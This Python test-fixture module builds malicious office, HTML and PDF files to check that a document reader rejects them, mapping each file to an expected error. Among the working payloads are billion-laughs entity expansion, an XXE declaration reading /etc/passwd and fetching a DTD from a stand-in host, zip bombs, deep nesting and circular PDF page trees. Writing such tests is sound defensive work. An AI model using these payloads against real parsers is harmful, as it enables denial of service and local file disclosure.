"""Files that cost their reader more than they are: each a few kilobytes to a megabyte, made on the spot."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from hostile.submissions import edit_zip
from readers.pdf.pages import Page, Writer, add_page, pdf, put_shared
from yueyang.docx_writer import write_docx
from yueyang.grid import Para
from yueyang.xlsx_writer import write_xlsx

SHEET, BOOK, DOCUMENT = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "word/document.xml"
_XLSX, _DOCX = write_xlsx([Para("自评报告")]), write_docx([Para("自评报告")])
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "哈">{_LAUGHS}]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:/etc/passwd"><!ENTITY % p SYSTEM "http:/evil.invalid/x.dtd">%p;]>'


def declare(data: bytes, part: str, declaration: str, entity: str) -> bytes:
    """A package with a declaration before a part, and its entity in a text of it."""

    def change(text: str) -> str:
        head, mark, rest = text.partition("?>")
        body = rest.replace("<sheetData>", f"<sheetData><row><c t='str'><v>{entity}</v></c></row>", 1)
        return head + mark + declaration + body.replace("自评报告", entity, 1)

    return edit_zip(data, {part: change}, {})


def change_sheet(old: str, new: str) -> bytes:
    def change(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return edit_zip(_XLSX, {SHEET: change}, {})


def inflate_part(data: bytes, part: str, mark: str, filler: str, times: int) -> bytes:
    """A package one of whose parts is very long and packs to nothing."""
    return edit_zip(data, {part: lambda text: text.replace(mark, filler * times + mark, 1)}, {})


def many_sheets(count: int) -> bytes:
    entries = "".join(f'<sheet name="s{n}" sheetId="{n + 2}" r:id="rId1"/>' for n in range(count))
    return edit_zip(_XLSX, {BOOK: lambda text: text.replace("</sheets>", entries + "</sheets>")}, {})


def many_merges(count: int) -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, count + 1))
    return change_sheet("</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")


def nest_words(levels: int) -> bytes:
    """Tables in tables."""
    deep = "<w:tbl><w:tr><w:tc>" * levels + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * levels
    return edit_zip(_DOCX, {DOCUMENT: lambda text: text.replace("<w:sectPr", deep + "<w:sectPr", 1)}, {})


def nest_html(levels: int) -> bytes:
    return b"<html><body>" + b"<table><tr><td>" * levels + "自评报告".encode()


# --- PDF ----------------------------------------------------------------------------------------------------------


def small_page() -> Page:
    page = Page()
    page.text(60, 60, "自评报告正文")
    return page


def many_pages(kids: int, count: int) -> bytes:
    """One page listed very often, and a count that says even more."""
    writer = Writer()
    put_shared(writer)
    page = add_page(writer, small_page())
    writer.put(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    writer.put(2, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"%d 0 R " % page * kids, count))
    return writer.write()


def circular_pages() -> bytes:
    writer = Writer()
    put_shared(writer)
    writer.put(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    writer.put(2, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 2 >>")
    return writer.write()


def nest_arrays(levels: int) -> bytes:
    writer = Writer()
    put_shared(writer)
    page = add_page(writer, small_page())
    writer.put(1, b"<< /Type /Catalog /Pages 2 0 R /X %s >>" % (b"[" * levels + b"]" * levels))
    writer.put(2, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    return writer.write()


def long_length() -> bytes:
    return pdf(small_page()).replace(b"/Length ", b"/Length 99999999999")


def bomb_of_bombs(size: int) -> bytes:
    """Content that is packed twice."""
    data = zlib.compress(zlib.compress(b" " * size))
    writer = Writer()
    put_shared(writer)
    head = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(data)
    writer.objects[40] = head + data + b"\nendstream"
    writer.put(41, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 40 0 R >>")
    writer.put(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    writer.put(2, b"<< /Type /Pages /Kids [41 0 R] /Count 1 >>")
    return writer.write()


READ = "not_identified"  # read, in no time, as the few words it is
BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "laughs.xlsx": ("corrupt", lambda: declare(_XLSX, SHEET, LAUGHS, "&l11;")),
    "laughs-strings.xlsx": ("corrupt", lambda: declare(_XLSX, BOOK, LAUGHS, "&l11;")),
    "laughs.docx": ("corrupt", lambda: declare(_DOCX, DOCUMENT, LAUGHS, "&l11;")),
    "external.xlsx": ("corrupt", lambda: declare(_XLSX, SHEET, EXTERNAL, "&e;")),
    "external.docx": ("corrupt", lambda: declare(_DOCX, DOCUMENT, EXTERNAL, "&e;")),
    "dimension.xlsx": (READ, lambda: change_sheet("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')),
    "last-row.xlsx": (
        READ,
        lambda: change_sheet("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ),
    "whole-merge.xlsx": (
        READ,
        lambda: change_sheet("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    ),
    "bomb.xlsx": ("too_large", lambda: inflate_part(_XLSX, SHEET, "</sheetData>", "<row/>", 35_000_000)),
    "bomb.docx": ("too_large", lambda: inflate_part(_DOCX, DOCUMENT, "<w:sectPr", "<w:p/>", 35_000_000)),
    "sheets.xlsx": ("too_large", lambda: many_sheets(100_000)),
    "merges.xlsx": ("too_large", lambda: many_merges(150_000)),
    "nested.docx": ("too_large", lambda: nest_words(100_000)),
    "nested.html": ("too_large", lambda: nest_html(100_000)),
    "pages.pdf": ("too_large", lambda: many_pages(100_000, 100_000)),
    "page-count.pdf": (READ, lambda: many_pages(1, 2_000_000_000)),
    "circular.pdf": ("corrupt", circular_pages),
    "arrays.pdf": (READ, lambda: nest_arrays(200_000)),
    "length.pdf": (READ, long_length),
    "bomb-twice.pdf": ("empty", lambda: bomb_of_bombs(200_000_000)),
}
